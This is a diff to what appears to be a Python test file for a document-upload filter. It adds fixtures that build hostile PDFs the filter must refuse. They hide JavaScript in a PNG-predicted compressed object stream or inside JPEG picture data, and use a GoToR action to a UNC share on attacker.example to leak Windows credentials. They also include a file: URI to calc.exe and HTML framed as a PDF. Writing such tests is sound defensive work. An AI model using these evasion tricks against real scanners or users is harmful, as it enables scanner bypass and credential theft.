@@ -71,6 +71,78 @@ def pdf_packed_js():
     return pdf(b"/OpenAction 4 0 R ").replace(b"xref\n", stream + b"xref\n", 1)
 
 
+def xref_pdf(bodies, indexed):
+    """A PDF of `bodies` ((number, bytes) written in order) whose xref gives each number of
+    `indexed` the offset of its first `N 0 obj` in the file, wherever that is (also inside
+    another object's stream data)."""
+    out = b"%PDF-1.5\n"
+    for n, body in bodies:
+        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
+    size = max(indexed) + 1
+    xref = len(out)
+    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for n in range(1, size):
+        at = out.find(b"%d 0 obj" % n) if n in indexed else -1
+        table += b"%010d 00000 n \n" % at if at >= 0 else b"0000000000 65535 f \n"
+    return out + table + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
+
+
+PAGES = [(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+         (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")]
+JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+def pdf_predicted_js():
+    """The issue's first bypass: the script's object in an object stream whose data is
+    Flate-compressed under a PNG predictor (rows of 16 bytes, each "Up" from the last), so
+    neither the file nor the plainly inflated stream spells a name; found through an xref
+    stream."""
+    members = b"4 0 " + JS_ACTION + b" "
+    header = b"4 0 "
+    data = header + members[len(header):]
+    data += b" " * (-len(data) % 16)
+    rows, previous = b"", bytes(16)
+    for i in range(0, len(data), 16):
+        row = data[i:i + 16]
+        rows += b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous))
+        previous = row
+    packed = zlib.compress(rows)
+    objstm = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 16 >> "
+              b"/Length %d >>\nstream\n" % (len(header), len(packed)) + packed + b"\nendstream")
+    out = b"%PDF-1.5\n"
+    offsets = {}
+    for n, body in [(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")] + PAGES + [(10, objstm)]:
+        offsets[n] = len(out)
+        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
+    rows = [bytes([0, 0, 0, 0, 255])] * 12
+    for n, at in offsets.items():
+        rows[n] = bytes([1]) + at.to_bytes(3, "big") + b"\0"
+    rows[4] = bytes([2, 0, 0, 10, 0])
+    xref_at = len(out)
+    rows[11] = bytes([1]) + xref_at.to_bytes(3, "big") + b"\0"
+    table = zlib.compress(b"".join(rows))
+    out += (b"11 0 obj\n<< /Type /XRef /Size 12 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+            % len(table) + table + b"\nendstream\nendobj\n")
+    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at
+
+
+def pdf_picture_js():
+    """The issue's second bypass: the script's object inside a JPEG picture stream's data,
+    where a scan that skips pictures does not look, and the xref pointing at it."""
+    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\n4 0 obj\n" + JS_ACTION + b"\nendobj\n\xff\xd9"
+    picture = (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length %d >>\nstream\n"
+               % len(jpeg) + jpeg + b"\nendstream")
+    bodies = [(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")] + PAGES + [(5, picture)]
+    return xref_pdf(bodies, [1, 2, 3, 4, 5])
+
+
+# The "BadPDF" credential leak: opening the file makes Windows reach for a share.
+PDF_GOTOR_UNC = pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> ")
+PDF_URI_FILE = pdf(b"/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> ")
+# HTML between the header and the end marker: no object, no trailer.
+PDF_HTML_ONLY = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"
+
+
 def refused(document):
     """(label, file name, bytes) entries that must each get a 4xx. A document field also
     takes PDFs, so a PDF is only hostile there when it is one."""
@@ -100,6 +172,11 @@ def refused(document):
                     ("PDF with JavaScript in escaped names", "scan.pdf", PDF_JS_ESCAPED),
                     ("PDF with JavaScript in an object stream", "scan.pdf", pdf_packed_js()),
                     ("PDF with a launch action", "scan.pdf", PDF_LAUNCH),
+                    ("PDF with JavaScript in a PNG-predicted object stream", "scan.pdf", pdf_predicted_js()),
+                    ("PDF with JavaScript in a picture stream's data", "scan.pdf", pdf_picture_js()),
+                    ("PDF with GoToR to a UNC path", "scan.pdf", PDF_GOTOR_UNC),
+                    ("PDF with a file: URI", "scan.pdf", PDF_URI_FILE),
+                    ("HTML between %PDF and %%EOF", "scan.pdf", PDF_HTML_ONLY),
                     ("PDF + appended HTML", "scan.pdf", pdf() + HTML),
                     ("PDF named .png", "scan.png", pdf())]
     else:
